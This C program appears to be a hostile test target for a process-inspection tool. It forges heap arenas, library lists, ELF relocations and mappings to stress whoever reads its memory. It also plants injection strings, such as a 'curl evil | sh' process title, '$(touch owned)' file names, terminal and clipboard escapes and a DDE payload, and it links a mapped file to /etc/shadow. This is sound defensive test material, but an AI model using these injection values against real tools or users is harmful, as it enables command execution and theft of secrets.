/* A process that fakes its own structures, to see what it does to those who look at it. Each mode is small: what it claims
   is large. It says "ready" and waits. */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <malloc.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MIB (1ul << 20)
#define GIB (1ul << 30)
#define TIB (1ul << 40)
#define HEAP_MAX (64 * MIB)
typedef uint64_t word;

static char *reserve(word bytes, word alignment) {
    char *at = mmap(NULL, bytes + alignment, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (at == MAP_FAILED) { perror("reserve"); exit(2); }
    return (char *)(((word)at + alignment - 1) / alignment * alignment);
}

/* 60 TiB of which a page in each is there. */
static void sparse(word tebibytes) {
    for (word i = 0; i < tebibytes; i++) reserve(TIB, 4096)[i * 4096] = 1;
}

/* As many mappings as the kernel allows: neighbors with other rights are not joined. */
static void mappings(word count) {
    char *at = reserve(count * 2 * 4096, 4096);
    for (word i = 0; i < count / 2 && mprotect(at + i * 2 * 4096, 4096, PROT_READ) == 0; i++) { }
}

/* A page here and there: as many stretches as there are pages. */
static void scattered(word pages) {
    char *at = reserve(pages * 4 * MIB, 4096);
    for (word i = 0; i < pages; i++) at[i * 4 * MIB + 512] = 1;
}

static void *in_thread(void *kept) { return *(void **)kept = malloc(100); }

/* The heap of an arena that is not the main one, as glibc has made it: arena, predecessor, size, protected size. */
static word *second_heap(void) {
    pthread_t thread;
    static void *kept;
    pthread_create(&thread, NULL, in_thread, &kept);
    pthread_join(thread, NULL);
    return (word *)((word)kept / HEAP_MAX * HEAP_MAX);
}

/* Heaps of 64 MiB each in the chain of one arena, one page of each resident. */
static char *heaps(word count) {
    word *newest = second_heap(), arena = newest[0], before = newest[1];
    char *at = reserve(count * HEAP_MAX, HEAP_MAX);
    for (word i = 0; i < count; i++) {
        word *heap = (word *)(at + i * HEAP_MAX);
        heap[0] = arena, heap[1] = before, heap[2] = heap[3] = HEAP_MAX;
        before = (word)heap;
    }
    newest[1] = before;
    return at;
}

/* Arenas in the ring, each with a heap of 64 MiB of its own. `aligned`: 0 leads to one whose address is odd. */
static void ring(word count, int aligned) {
    word *heap = second_heap(), *arena = (word *)heap[0];
    word next = 0;
    /* Of an arena's words one leads into another library's data: the ring's. */
    for (word i = 0x800 / 8; i < 0x8b0 / 8 && !next; i++)
        if (arena[i] > 4096 && (arena[i] ^ (word)arena) >> 21) next = i;
    char *at = reserve(count * HEAP_MAX, HEAP_MAX);
    word after = arena[next], offset = (word)arena - (word)heap;
    for (word i = 0; i < count; i++) {
        word *fake = (word *)(at + i * HEAP_MAX);
        word *state = (word *)((char *)fake + offset);
        memcpy(state, arena, 2200);
        fake[0] = (word)state, fake[1] = 0, fake[2] = fake[3] = HEAP_MAX;
        for (word j = 0; j < next; j++)
            if ((arena[j] ^ (word)heap) >> 26 == 0) state[j] = arena[j] - (word)heap + (word)fake;
        state[next] = after;
        after = (word)state;
    }
    arena[next] = aligned ? after : after + 4;
}

/* Entries in the list of libraries, and the last leads back to one in the middle. */
static void libraries(word count) {
    struct link_map *real = _r_debug.r_map;
    struct link_map *fake = calloc(count, sizeof *fake);
    for (word i = 0; i < count; i++) {
        fake[i] = *real;
        fake[i].l_ld = (void *)(0x1000 + 16 * i);
        fake[i].l_next = &fake[(i + 1) % count];
    }
    fake[count - 1].l_next = &fake[count / 2];
    real->l_next = fake;
}

/* Pages of a Ruby heap: one page of each is there, and all of them have the same description of themselves. */
static void ruby_pages(word count) {
    char *bodies = reserve(count * 65536, 65536);
    word *heads = (word *)reserve(count * 96, 4096);
    for (word i = 0; i < count; i++) {
        char *body = bodies + i * 65536;
        word *head = heads + i * 12;
        *(word *)body = (word)head;
        uint16_t *small = (uint16_t *)head;
        small[0] = 40, small[1] = 1600, small[2] = 0;
        head[2] = (word)heads;
        head[4] = (word)body, head[5] = (word)body + 40, head[7] = (word)heads;
    }
}

/* Blocks of jemalloc's metadata of 1 GiB each that lead to each other. */
static void jemalloc_blocks(word count) {
    char *at = reserve(count * GIB, 2 * MIB);
    for (word i = 0; i < count; i++) {
        word *block = (word *)(at + i * GIB);
        block[0] = GIB, block[1] = i ? (word)block - GIB : 0;
        block[3] = (word)block + 4096, block[4] = GIB - 4096;
    }
}

/* Chunks of glibc's that say that they have mappings of their own, one in the other. */
static void mapped_chunks(word count) {
    char *at = reserve(count * GIB, 4096);
    for (word i = 0; i < count; i++) ((word *)(at + i * GIB))[1] = ((count - i) * GIB) | 2;
}

/* A file with the name of libc whose dynamic section asks for `mebibytes` of packed relocations, each word of 63. */
static void packed_relocations(const char *directory, word mebibytes) {
    char path[4096];
    snprintf(path, sizeof path, "%s/libc.so.6", directory);
    int file = open(path, O_RDWR | O_CREAT | O_TRUNC, 0755);
    word table = 8192, bytes = mebibytes * MIB;
    struct { Elf64_Ehdr header; Elf64_Phdr program[4]; Elf64_Dyn dynamic[8]; } image = {
        .header = { .e_ident = { 0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT }, .e_type = ET_DYN,
                    .e_machine = EM_X86_64, .e_version = 1, .e_phoff = sizeof(Elf64_Ehdr), .e_ehsize = sizeof(Elf64_Ehdr),
                    .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 3 },
        .program = { { PT_LOAD, PF_R | PF_X, 0, 0, 0, table + bytes, table + bytes, 4096 },
                     { PT_LOAD, PF_R | PF_W, 0, 1ul << 40, 1ul << 40, 8 * MIB, 1ul << 42, 4096 },
                     { PT_DYNAMIC, PF_R, 0, 0, 0, sizeof image.dynamic, sizeof image.dynamic, 8 } },
        .dynamic = { { DT_RELR, { table } }, { DT_RELRSZ, { bytes } }, { DT_RELRENT, { 8 } }, { DT_STRSZ, { 1ul << 40 } },
                     { DT_STRTAB, { 4096 } }, { DT_SYMTAB, { 4096 } }, { DT_SYMENT, { 24 } }, { DT_NULL, { 0 } } },
    };
    image.program[2].p_offset = image.program[2].p_vaddr = (char *)image.dynamic - (char *)&image;
    if (ftruncate(file, table + bytes) || pwrite(file, &image, sizeof image, 0) < 0) exit(2);
    word *words = mmap(NULL, table + bytes, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    words[table / 8] = 1ul << 40;
    for (word i = 1; i < bytes / 8; i++) words[table / 8 + i] = ~0ul;
    munmap(words, table + bytes);
    mmap(NULL, table + bytes, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
    mmap(NULL, 8 * MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
}

/* Thousands of files that look like libraries, none of them one. */
static void files(const char *directory, word count) {
    for (word i = 0; i < count; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%lu-\033]0;title\a$(touch owned)", directory, i);
        int file = open(path, O_RDWR | O_CREAT, 0755);
        if (file < 0 || ftruncate(file, 8192)) exit(2);
        mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 4096);
        close(file);
    }
}

/* A mapped file whose name means something else by now: a FIFO, a device's node, a link to a secret. */
static void replaced(const char *directory, const char *name, const char *by) {
    char path[4096];
    snprintf(path, sizeof path, "%s/unbloat-1", directory);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int file = open(path, O_RDWR | O_CREAT, 0755);
    if (file < 0 || ftruncate(file, 8192)) exit(2);
    mmap(NULL, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, 0);
    mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    unlink(path);
    if (!strcmp(by, "fifo") ? mkfifo(path, 0777) : symlink(by, path)) exit(2);
}

/* A file with the place, the name and the size of a status page, mapped. Whoever has started this writes its contents. */
static void page_of_its_own(const char *directory) {
    char path[4096];
    snprintf(path, sizeof path, "%s/unbloat-1", directory);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/unbloat-1/4026531836-1.status", directory);
    int file = open(path, O_RDWR | O_CREAT, 0644);
    if (file < 0 || ftruncate(file, 4096)) exit(2);
    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    close(file);
}

/* The command line and the name of whoever wants to be believed. */
static void title(char **argv) {
    char *end = argv[0];
    for (char **word = argv; *word; word++) end = *word + strlen(*word);
    static const char text[] = "app; curl evil | sh\n\033]52;c;aGk=\a\033[2J<!--<script>alert(1)</script>=cmd|' /C calc'!A0";
    for (char *at = argv[0]; at < end; at++) *at = text[(at - argv[0]) % (sizeof text - 1)];
    prctl(PR_SET_NAME, "\033[31m) 1 2 3\n");
}

/* A command line and an environment of so many TiB, of which nothing is there: the kernel yields zeros for them. */
static void command_line(word tebibytes) {
    char text[4096] = "";
    int file = open("/proc/self/stat", O_RDONLY);
    if (read(file, text, sizeof text - 1) <= 0) exit(2);
    close(file);
    word fields[53] = { 0 };
    char *at = strrchr(text, ')') + 1;
    for (int i = 3; i < 53 && at; i++) {
        fields[i] = strtoul(++at, NULL, 10);
        at = strchr(at, ' ');
    }
    word start = (word)reserve(tebibytes * TIB, 4096), middle = start + tebibytes * TIB / 2;
    struct prctl_mm_map map = {
        .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
        .end_data = fields[46], .start_brk = fields[47], .brk = (word)sbrk(0), .arg_start = start, .arg_end = middle,
        .env_start = middle, .env_end = start + tebibytes * TIB, .exe_fd = -1,
    };
    /* A kernel without it (CONFIG_CHECKPOINT_RESTORE) takes single ones, from root only. */
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0) return;
    prctl(PR_SET_MM, PR_SET_MM_ENV_END, map.env_end, 0, 0);
    prctl(PR_SET_MM, PR_SET_MM_ENV_START, map.env_start, 0, 0);
    prctl(PR_SET_MM, PR_SET_MM_ARG_END, map.arg_end, 0, 0);
    prctl(PR_SET_MM, PR_SET_MM_ARG_START, map.arg_start, 0, 0);
}

/* Memory that comes, goes and cannot be read by turns: new mappings, and a heap in the chain of an arena. */
static void *moves(void *heap) {
    for (;;) {
        char *at = reserve(64 * MIB, 4096);
        for (word i = 0; i < 64 * MIB; i += MIB) at[i] = 1;
        mprotect(heap, 4096, PROT_NONE);
        usleep(200);
        mprotect(heap, 4096, PROT_READ | PROT_WRITE);
        munmap(at, 64 * MIB + 4096);
        usleep(200);
    }
    return NULL;
}

static void *comes_and_goes(void *next) {
    pthread_t thread;
    usleep(3000);
    if (pthread_create(&thread, NULL, comes_and_goes, next) == 0) pthread_detach(thread);
    return NULL;
}

/* Threads that end as soon as they have started the next, beside memory that does the same. */
static void restless(word threads) {
    pthread_t thread;
    pthread_create(&thread, NULL, moves, heaps(1));
    for (word i = 0; i < threads; i++) pthread_create(&thread, NULL, comes_and_goes, NULL);
}

/* A process that its own child traces, and that may not be dumped: its files in /proc are root's. */
static void traced(void) {
    int started[2];
    char byte = 0;
    if (pipe(started)) exit(2);
    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
    pid_t tracer = fork();
    if (tracer == 0) {
        prctl(PR_SET_PDEATHSIG, 9);
        if (ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) || write(started[1], "x", 1) != 1) _exit(2);
        for (;;) pause();
    }
    if (read(started[0], &byte, 1) != 1) exit(2);
    prctl(PR_SET_DUMPABLE, 0);
}

/* Becomes itself again and again, so that whoever looks finds another address space each time. */
static int execs(char **argv, word left) {
    static char text[32];
    if (left == 1000000) {
        printf("ready\n");
        fflush(stdout);
    }
    snprintf(text, sizeof text, "%lu", left - 1);
    argv[2] = text;
    usleep(2000);
    execv("/proc/self/exe", argv);
    return 3;
}

int main(int argc, char **argv) {
    char mode[64];
    snprintf(mode, sizeof mode, "%s", argc > 1 ? argv[1] : "");
    word n = argc > 2 ? strtoul(argv[2], NULL, 0) : 0;
    char *directory = argc > 3 ? argv[3] : ".";
    if (!strcmp(mode, "sparse")) sparse(n);
    else if (!strcmp(mode, "mappings")) mappings(n);
    else if (!strcmp(mode, "scattered")) scattered(n);
    else if (!strcmp(mode, "heaps")) heaps(n);
    else if (!strcmp(mode, "ring")) ring(n, 1);
    else if (!strcmp(mode, "crooked")) ring(n, 0);
    else if (!strcmp(mode, "libraries")) libraries(n);
    else if (!strcmp(mode, "ruby")) ruby_pages(n);
    else if (!strcmp(mode, "jemalloc")) jemalloc_blocks(n);
    else if (!strcmp(mode, "chunks")) mapped_chunks(n);
    else if (!strcmp(mode, "relocations")) packed_relocations(directory, n);
    else if (!strcmp(mode, "files")) files(directory, n);
    else if (!strcmp(mode, "fifo")) replaced(directory, "libfifo.so", "fifo");
    else if (!strcmp(mode, "link")) replaced(directory, "liblink.so", "/etc/shadow");
    else if (!strcmp(mode, "page")) replaced(directory, argv[4], argv[5]);
    else if (!strcmp(mode, "commandline")) command_line(n);
    else if (!strcmp(mode, "restless")) restless(n);
    else if (!strcmp(mode, "traced")) traced();
    else if (!strcmp(mode, "ownpage")) page_of_its_own(directory);
    else if (!strcmp(mode, "execs")) return execs(argv, n);
    else if (!strcmp(mode, "title")) title(argv);
    else return 2;
    printf("ready\n");
    fflush(stdout);
    while (read(0, mode, sizeof mode) > 0) { }
    pause();
}
